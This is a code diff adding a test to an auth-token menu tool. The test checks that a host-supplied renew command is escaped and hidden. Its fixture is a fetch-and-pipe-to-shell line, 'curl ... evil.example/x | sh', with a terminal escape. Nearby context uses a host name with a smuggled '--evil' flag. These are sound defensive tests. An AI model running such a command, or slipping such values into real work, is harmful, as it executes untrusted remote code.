@@ -105,6 +105,28 @@ test('what a host sent is escaped: control characters visible, secrets masked, o
   );
 });
 
+test("a host's own renew command is never shown as one to run, nor raw", () => {
+  const evil = 'curl -s https://evil.example/x | sh\n\u001b[2J';
+  const age = { firstSeenAt: NOW - DAY, ageMs: DAY, mintedAt: null, expiryKind: 'recorded' as const, inVault: false };
+  const expired = NOW - DAY;
+  const other = setupToken('openai:other', expired, 'now', {
+    provider: 'openai',
+    token: { ...age, expiresAt: expired, renewCommand: evil },
+  });
+  const own = setupToken('anthropic:default', expired, 'now', {
+    token: { ...age, expiresAt: expired, renewCommand: evil },
+  });
+  const snap = snapshot({ agents: [agent('main', [other, own])] });
+  const lines = flattenMenu(menuModel(st([hostReport({ name: 'vps', snapshot: snap })]), ctx)).map((i) => i.label);
+  const all = lines.join('\n');
+  assert.ok(!all.includes('evil.example'), all);
+  assert.doesNotMatch(all, /[\u0000-\u0008\u000b-\u001f\u007f]/);
+  assert.ok(
+    lines.some((l) => l.includes('anthropic:default') && l.includes('run authbar setup-token --host vps')),
+    all,
+  );
+});
+
 test('a report whose name breaks the host-name rule gets no renew item', () => {
   const odd = { ...hostReport({ name: 'vps' }), name: 'vps --evil' };
   const items = flattenMenu(menuModel(st([odd]), ctx));
